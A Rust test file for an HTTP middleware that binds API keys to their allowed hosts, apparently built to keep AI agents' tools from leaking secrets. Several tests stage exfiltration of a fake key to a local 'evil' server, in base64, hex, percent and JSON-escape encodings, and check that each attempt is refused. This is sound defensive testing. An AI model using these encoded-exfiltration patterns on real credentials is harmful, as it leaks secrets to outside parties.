//! The HTTP edge (`EdgeMiddleware`) against real servers on 127.0.0.1, started by each test:
//! keys go in only toward their bindings, nothing reaches an unbound host, a redirect does not
//! carry a key, a 401 after a rotation is retried with the fresh key.
#![cfg(feature = "reqwest")]
#![allow(clippy::unwrap_used)]

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use keyward::edge::{Binding, Edge, EdgeMiddleware, EdgePolicy};
use keyward::usage::{FailureClass, Outcome};
use keyward::{Error, ErrorKind, KeyManager};
use reqwest_middleware::{ClientBuilder, ClientWithMiddleware};

use super::common::base64;
use super::common::misbehaving::{Fake, Reply};
use super::edge::{Rotating, fake};

/// A server that answers 200 to everything.
fn ok_server() -> Fake {
    Fake::start(|_| Reply::raw(200, "text/plain", "ok"))
}

/// `host:port` of a server.
fn port_of(server: &Fake) -> u16 {
    server.address.rsplit(':').next().unwrap().parse().unwrap()
}

/// A manager over a source the test can rotate, holding `keys`.
fn manager(keys: &[(&str, &str)]) -> (Arc<Rotating>, KeyManager) {
    let source = Arc::new(Rotating::default());
    for (name, value) in keys {
        source.set(name, value);
    }
    let manager = KeyManager::builder(Arc::clone(&source)).build().unwrap();
    (source, manager)
}

/// The client of `tool`, redirects off, with the edge's middleware.
fn client(edge: &Edge, tool: &str) -> ClientWithMiddleware {
    ClientBuilder::new(EdgeMiddleware::client_builder().build().unwrap())
        .with(EdgeMiddleware::new(edge.clone(), tool).unwrap())
        .build()
}

/// The keyward error inside a middleware error.
fn edge_error(err: &reqwest_middleware::Error) -> &Error {
    match err {
        reqwest_middleware::Error::Middleware(err) => err.downcast_ref::<Error>().unwrap(),
        other => panic!("not an edge error: {other}"),
    }
}

/// The outcomes recorded, oldest first.
fn outcomes(edge: &Edge) -> Vec<Outcome> {
    edge.usage_log()
        .recent()
        .iter()
        .map(|e| e.outcome())
        .collect()
}

/// A middleware that counts the sensitive header values it sees.
struct CountSensitive(Arc<AtomicUsize>);

#[async_trait::async_trait]
impl reqwest_middleware::Middleware for CountSensitive {
    async fn handle(
        &self,
        req: reqwest::Request,
        ext: &mut http::Extensions,
        next: reqwest_middleware::Next<'_>,
    ) -> reqwest_middleware::Result<reqwest::Response> {
        let count = req.headers().values().filter(|v| v.is_sensitive()).count();
        self.0.fetch_add(count, Ordering::SeqCst);
        next.run(req, ext).await
    }
}

#[tokio::test]
async fn each_presentation_puts_the_key_in_by_its_binding() {
    let server = ok_server();
    let port = port_of(&server);
    let bearer = fake("sk-bearer-", "Be4r");
    let header = fake("sk-header-", "He4d");
    let query = fake("sk-query-", "Qu3r");
    let basic = fake("sk-basic-", "Ba5c");
    let (_, manager) = manager(&[
        ("BEARER", &bearer),
        ("HEADER", &header),
        ("QUERY", &query),
        ("BASIC", &basic),
    ]);
    let local = |prefix: &str| {
        Binding::http("127.0.0.1")
            .with_port(port)
            .with_path_prefix(prefix)
    };
    let policy = EdgePolicy::builder()
        .with_key("BEARER", local("/bearer").with_bearer())
        .with_key("HEADER", local("/header").with_header("x-api-key"))
        .with_key("QUERY", local("/query").with_query("key"))
        .with_key("BASIC", local("/basic").with_basic_auth("user"))
        .with_tool("all", ["*"])
        .build()
        .unwrap();
    let edge = Edge::new("agent", manager, policy).unwrap();

    // A middleware after the edge sees the headers as they are sent: the key's is sensitive.
    let sensitive = Arc::new(AtomicUsize::new(0));
    let client = ClientBuilder::new(EdgeMiddleware::client_builder().build().unwrap())
        .with(EdgeMiddleware::new(edge.clone(), "all").unwrap())
        .with(CountSensitive(Arc::clone(&sensitive)))
        .build();
    for path in ["/bearer/x", "/header/x", "/query/x?page=2", "/basic/x"] {
        let answer = client.get(format!("{}{path}", server.address)).send().await;
        assert_eq!(answer.unwrap().status(), 200);
    }
    let got = server.requests();
    assert_eq!(
        got[0].header("authorization").unwrap(),
        format!("Bearer {bearer}")
    );
    assert_eq!(got[1].header("x-api-key").unwrap(), header);
    assert_eq!(got[2].path, format!("/query/x?page=2&key={query}"));
    let pair = format!("user:{basic}");
    assert_eq!(
        got[3].header("authorization").unwrap(),
        format!("Basic {}", base64(pair.as_bytes(), false, true))
    );
    // each request carried exactly its own key, and nothing else
    // (the basic one carries it in base64)
    for (request, key) in got.iter().zip([&bearer, &header, &query]) {
        for other in [&bearer, &header, &query, &basic] {
            assert_eq!(request.text().contains(other.as_str()), other == key);
        }
    }
    assert_eq!(sensitive.load(Ordering::SeqCst), 3); // the query key is in the URL
    assert_eq!(outcomes(&edge), vec![Outcome::Success; 4]);
}

/// One key bound to `server` over plain http, as a bearer token, for tool `api`; `web` has no key.
fn bound_to(server: &Fake, key: &str) -> Edge {
    bound_presented(server, key, true)
}

/// [`bound_to`], the binding presenting the key as a bearer token or (`presented` false) not
/// saying how: the tool writes its handle where the service wants it.
fn bound_presented(server: &Fake, key: &str, presented: bool) -> Edge {
    let (_, manager) = manager(&[("API_KEY", key)]);
    let mut binding = Binding::http("127.0.0.1")
        .with_port(port_of(server))
        .with_path_prefix("/v1");
    if presented {
        binding = binding.with_bearer();
    }
    let policy = EdgePolicy::builder()
        .with_key("API_KEY", binding)
        .with_tool("api", ["API_KEY"])
        .with_keyless_tool("web")
        .build()
        .unwrap();
    Edge::new("agent", manager, policy).unwrap()
}

#[tokio::test]
async fn handles_are_restored_toward_the_binding_in_url_header_and_body() {
    let server = ok_server();
    let key = fake("sk-live-", "Kq7Zp");
    let edge = bound_presented(&server, &key, false);
    let handle = edge.handle("API_KEY").unwrap().to_owned();
    let answer = client(&edge, "api")
        .post(format!("{}/v1/echo?k={handle}", server.address))
        .header("x-copy", format!("token {handle}"))
        .header("content-type", "application/json")
        .body(format!(r#"{{"key": "{handle}"}}"#))
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 200);
    let got = &server.requests()[0];
    assert_eq!(got.path, format!("/v1/echo?k={key}"));
    assert_eq!(got.header("x-copy").unwrap(), format!("token {key}"));
    assert_eq!(got.body, format!(r#"{{"key": "{key}"}}"#).into_bytes());
    assert!(!got.text().contains(&handle));

    // Where the binding presents the key, a handle anywhere else stops the request.
    let edge = bound_to(&server, &key);
    let handle = edge.handle("API_KEY").unwrap().to_owned();
    let err = client(&edge, "api")
        .post(format!("{}/v1/echo", server.address))
        .header("content-type", "application/json")
        .body(format!(r#"{{"key": "{handle}"}}"#))
        .send()
        .await
        .unwrap_err();
    assert_eq!(edge_error(&err).kind(), ErrorKind::PermissionDenied);
    assert_eq!(server.requests().len(), 1);
}

#[tokio::test]
async fn nothing_reaches_an_unbound_host_a_plain_http_one_or_a_path_outside_the_prefix() {
    let server = ok_server();
    let evil = ok_server();
    let key = fake("sk-live-", "Kq7Zp");
    let edge = bound_to(&server, &key);
    let handle = edge.handle("API_KEY").unwrap().to_owned();
    let api = client(&edge, "api");

    // the handle, toward another host (here another port): refused, naming key and host
    let err = api
        .get(format!("{}/v1/collect?t={handle}", evil.address))
        .send()
        .await
        .unwrap_err();
    let err = edge_error(&err);
    assert_eq!(err.kind(), ErrorKind::PermissionDenied);
    let message = err.to_string();
    assert!(
        message.contains("`API_KEY` may not be sent to"),
        "{message}"
    );
    assert!(message.contains(&evil.address[7..]), "{message}");
    // the raw value, toward it: a leak
    let err = api
        .get(format!("{}/v1/collect", evil.address))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap_err();
    assert_eq!(edge_error(&err).kind(), ErrorKind::Leak);
    // outside the path prefix of the bound host
    let err = api
        .post(format!("{}/v2/upload", server.address))
        .body(format!("t={handle}"))
        .send()
        .await
        .unwrap_err();
    assert_eq!(edge_error(&err).kind(), ErrorKind::PermissionDenied);
    // a tool without the key, toward the bound host
    let err = client(&edge, "web")
        .get(format!("{}/v1/x?t={handle}", server.address))
        .send()
        .await
        .unwrap_err();
    assert_eq!(edge_error(&err).kind(), ErrorKind::PermissionDenied);
    assert_eq!(evil.count() + server.count(), 0);
    assert_eq!(edge.usage_log().report().total.denied, 4);

    // bound over https, asked over plain http: refused
    let (_, manager) = manager(&[("API_KEY", key.as_str())]);
    let policy = EdgePolicy::builder()
        .with_key(
            "API_KEY",
            Binding::https("127.0.0.1")
                .with_port(port_of(&server))
                .with_bearer(),
        )
        .with_tool("api", ["API_KEY"])
        .build()
        .unwrap();
    let tls_only = Edge::new("agent", manager, policy).unwrap();
    let handle = tls_only.handle("API_KEY").unwrap().to_owned();
    let err = client(&tls_only, "api")
        .get(format!("{}/v1/x", server.address))
        .header("x-token", handle)
        .send()
        .await
        .unwrap_err();
    assert_eq!(edge_error(&err).kind(), ErrorKind::PermissionDenied);
    // and by binding alone, the key is not put in over plain http
    client(&tls_only, "api")
        .get(format!("{}/v1/x", server.address))
        .send()
        .await
        .unwrap();
    assert_eq!(server.count(), 1);
    assert!(!server.requests()[0].text().contains(&key));
}

/// `value` percent-encoded, every byte.
fn percent_all(value: &str) -> String {
    value.bytes().map(|b| format!("%{b:02X}")).collect()
}

/// `value` as JSON `\u` escapes, every character.
fn json_all(value: &str) -> String {
    value
        .chars()
        .map(|c| format!("\\u{:04x}", u32::from(c)))
        .collect()
}

#[tokio::test]
async fn encoded_values_toward_an_unbound_host_are_refused_in_query_and_body() {
    let server = ok_server();
    let evil = ok_server();
    let key = fake("sk-live-", "Kq7Zp");
    let edge = bound_to(&server, &key);
    let api = client(&edge, "api");
    let encodings = [
        ("base64", base64(key.as_bytes(), false, true)),
        ("base64url", base64(key.as_bytes(), true, false)),
        ("percent, every byte", percent_all(&key)),
        ("json escapes", json_all(&key)),
        ("percent over json escapes", percent_all(&json_all(&key))),
        ("hex", key.bytes().map(|b| format!("{b:02x}")).collect()),
    ];
    let mut refused = 0;
    for (name, encoded) in &encodings {
        let in_query = api.get(format!("{}/v1/c?d={encoded}", evil.address));
        let in_json = api
            .post(format!("{}/v1/c", evil.address))
            .header("content-type", "application/json")
            .body(format!(r#"{{"data": "{encoded}"}}"#));
        let in_form = api
            .post(format!("{}/v1/c", evil.address))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(format!("a=1&data={encoded}&b=2"));
        for request in [in_query, in_json, in_form] {
            let err = request.send().await.unwrap_err();
            assert_eq!(edge_error(&err).kind(), ErrorKind::Leak, "{name}");
            refused += 1;
        }
    }
    assert_eq!(evil.count(), 0);
    assert_eq!(edge.usage_log().report().total.denied, refused);
}

#[tokio::test]
async fn a_redirect_to_an_unbound_host_does_not_carry_the_key() {
    let evil = ok_server();
    let to = format!("{}/v1/collect", evil.address);
    let server = Fake::start(move |_| Reply::redirect(307, &to));
    let key = fake("sk-live-", "Kq7Zp");
    let edge = bound_to(&server, &key);

    // redirects off: the 3xx comes back to the tool, nothing went to the second host
    let answer = client(&edge, "api")
        .get(format!("{}/v1/x", server.address))
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 307);
    assert_eq!(evil.count(), 0);
    assert!(server.requests()[0].text().contains(&key));
    // following it is a request of its own, and the key is not put in there
    let location = answer.headers()["location"].to_str().unwrap().to_owned();
    client(&edge, "api").get(location).send().await.unwrap();
    assert_eq!(evil.count(), 1);
    assert!(!evil.requests()[0].text().contains(&key));

    // a client that follows redirects by itself: the answer is dropped and a denial recorded
    let follows = ClientBuilder::new(reqwest::Client::new())
        .with(EdgeMiddleware::new(edge.clone(), "api").unwrap())
        .build();
    let err = follows
        .get(format!("{}/v1/x", server.address))
        .send()
        .await
        .unwrap_err();
    let err = edge_error(&err);
    assert_eq!(err.kind(), ErrorKind::Leak);
    assert!(err.to_string().contains("followed a redirect"), "{err}");
    assert_eq!(outcomes(&edge).last(), Some(&Outcome::Denied));
}

/// An edge whose key `QUERY` goes to `port` as the query parameter `key`, for tool `api`.
fn query_bound(port: u16, key: &str) -> Edge {
    let (_, manager) = manager(&[("QUERY", key)]);
    let policy = EdgePolicy::builder()
        .with_key(
            "QUERY",
            Binding::http("127.0.0.1").with_port(port).with_query("key"),
        )
        .with_tool("api", ["QUERY"])
        .build()
        .unwrap();
    Edge::new("agent", manager, policy).unwrap()
}

/// The URL sent carries the key (a query parameter), and reqwest puts it in `Response::url`,
/// in the errors of `error_for_status` and in its own errors, which a tool prints and may hand
/// to the model: the middleware gives them the URL with a handle instead.
#[tokio::test]
async fn answers_and_errors_hold_the_url_with_handles_not_with_the_key() {
    let key = fake("sk-query-", "Qu3r");
    let missing = Fake::start(|_| Reply::raw(404, "text/plain", "no"));
    let edge = query_bound(port_of(&missing), &key);
    let answer = client(&edge, "api")
        .get(format!("{}/v1/x?page=2", missing.address))
        .send()
        .await
        .unwrap();
    assert!(missing.requests()[0].path.contains(&key));
    assert_eq!(answer.status(), 404);
    let shown = answer.url().to_string();
    assert!(!shown.contains(&key), "{shown}");
    assert!(
        shown.starts_with(&format!("{}/v1/x?page=2&key=", missing.address)),
        "{shown}"
    );
    let err = answer.error_for_status().unwrap_err();
    for text in [err.to_string(), format!("{err:?}")] {
        assert!(!text.contains(&key), "{text}");
    }
    assert_eq!(
        outcomes(&edge),
        vec![Outcome::failure(
            FailureClass::from_http_status(404).unwrap()
        )]
    );

    // Nothing listens: reqwest's error names the URL it could not reach.
    let closed = super::common::servers::free_port();
    let edge = query_bound(closed, &key);
    let err = client(&edge, "api")
        .get(format!("http://127.0.0.1:{closed}/v1/x"))
        .send()
        .await
        .unwrap_err();
    assert!(
        matches!(err, reqwest_middleware::Error::Reqwest(_)),
        "{err}"
    );
    for text in [err.to_string(), format!("{err:?}")] {
        assert!(!text.contains(&key), "{text}");
        assert!(text.contains(&format!("127.0.0.1:{closed}")), "{text}");
    }
    assert_eq!(
        outcomes(&edge),
        vec![Outcome::failure(FailureClass::Network)]
    );
}

#[tokio::test]
async fn a_401_after_a_rotation_is_retried_once_with_the_fresh_key() {
    let old = fake("sk-live-", "Old4k");
    let new = fake("sk-live-", "New9z");
    let accepted = Arc::new(std::sync::Mutex::new(format!("Bearer {new}")));
    let current = Arc::clone(&accepted);
    let server = Fake::start(move |request| {
        let ok = request.header("authorization") == Some(current.lock().unwrap().clone());
        Reply::raw(if ok { 200 } else { 401 }, "text/plain", "")
    });
    let (source, manager) = manager(&[("API_KEY", old.as_str())]);
    let policy = EdgePolicy::builder()
        .with_key(
            "API_KEY",
            Binding::http("127.0.0.1")
                .with_port(port_of(&server))
                .with_bearer(),
        )
        .with_tool("api", ["API_KEY"])
        .build()
        .unwrap();
    let edge = Edge::new("agent", manager.clone(), policy).unwrap();
    manager.get("API_KEY").unwrap(); // the old value is cached
    source.set("API_KEY", &new); // rotated at the source, the manager does not know yet
    let api = client(&edge, "api");
    let answer = api
        .get(format!("{}/v1/x", server.address))
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 200);
    let sent: Vec<_> = server
        .requests()
        .iter()
        .map(|r| r.header("authorization").unwrap())
        .collect();
    assert_eq!(sent, [format!("Bearer {old}"), format!("Bearer {new}")]);
    assert_eq!(
        outcomes(&edge),
        [
            Outcome::failure(FailureClass::Unauthorized),
            Outcome::Success
        ]
    );

    // a 401 with no newer key: not retried, and recorded as such
    *accepted.lock().unwrap() = "nobody".to_owned();
    let answer = api
        .get(format!("{}/v1/x", server.address))
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 401);
    assert_eq!(server.count(), 3);
    assert_eq!(
        outcomes(&edge).last(),
        Some(&Outcome::failure(FailureClass::Unauthorized))
    );
}

#[tokio::test]
async fn status_403_and_429_are_recorded_as_their_failure_classes() {
    let server = Fake::start(|request| {
        let status = if request.path.contains("403") {
            403
        } else {
            429
        };
        Reply::raw(status, "text/plain", "")
    });
    let key = fake("sk-live-", "Kq7Zp");
    let edge = bound_to(&server, &key);
    let api = client(&edge, "api");
    for path in ["/v1/403", "/v1/429"] {
        api.get(format!("{}{path}", server.address))
            .send()
            .await
            .unwrap();
    }
    assert_eq!(
        outcomes(&edge),
        [
            Outcome::failure(FailureClass::Forbidden),
            Outcome::failure(FailureClass::RateLimited)
        ]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_requests_during_a_rotation_carry_a_current_value() {
    let server = ok_server();
    let values: Vec<String> = (0..4)
        .map(|i| fake(&format!("sk-gen{i}-"), "R0t8q"))
        .collect();
    let (source, manager) = manager(&[("API_KEY", values[0].as_str())]);
    let policy = EdgePolicy::builder()
        .with_key(
            "API_KEY",
            Binding::http("127.0.0.1")
                .with_port(port_of(&server))
                .with_bearer(),
        )
        .with_tool("api", ["API_KEY"])
        .build()
        .unwrap();
    let edge = Edge::new("agent", manager.clone(), policy).unwrap();
    let api = client(&edge, "api");
    for value in &values[1..] {
        let tasks: Vec<_> = (0..8)
            .map(|_| {
                let (api, url) = (api.clone(), format!("{}/v1/x", server.address));
                tokio::spawn(async move { api.get(url).send().await.unwrap().status() })
            })
            .collect();
        // rotate while they run
        source.set("API_KEY", value);
        manager.refresh("API_KEY").unwrap();
        for task in tasks {
            assert_eq!(task.await.unwrap(), 200);
        }
        // once the rotation is done, a request carries the new value
        api.get(format!("{}/v1/x", server.address))
            .send()
            .await
            .unwrap();
    }
    // The server records each request before it answers, so the batches arrive in order:
    // eight sent during rotation `g` (the value before it or after it), then one after it.
    let got: Vec<String> = server
        .requests()
        .iter()
        .map(|r| r.header("authorization").unwrap())
        .collect();
    assert_eq!(got.len(), 3 * 9);
    let bearer = |g: usize| format!("Bearer {}", values[g]);
    for (batch, generation) in got.chunks(9).zip(1..) {
        for sent in &batch[..8] {
            assert!(
                *sent == bearer(generation - 1) || *sent == bearer(generation),
                "a request during rotation {generation} carried another value"
            );
        }
        assert!(
            batch[8] == bearer(generation),
            "rotation {generation} not followed"
        );
    }
}

#[tokio::test]
async fn a_header_the_edge_cannot_read_is_refused_before_sending() {
    let server = ok_server();
    let edge = bound_to(&server, &fake("sk-live-", "Kq7Zp"));
    let opaque = reqwest::header::HeaderValue::from_bytes(b"\xffhidden").unwrap();
    let err = client(&edge, "api")
        .get(format!("{}/v1/x", server.address))
        .header("x-data", opaque)
        .send()
        .await
        .unwrap_err();
    let err = edge_error(&err);
    assert_eq!(err.kind(), ErrorKind::InvalidInput);
    assert!(
        err.to_string().contains("header `x-data` is not text"),
        "{err}"
    );
    assert_eq!(server.count(), 0);
}
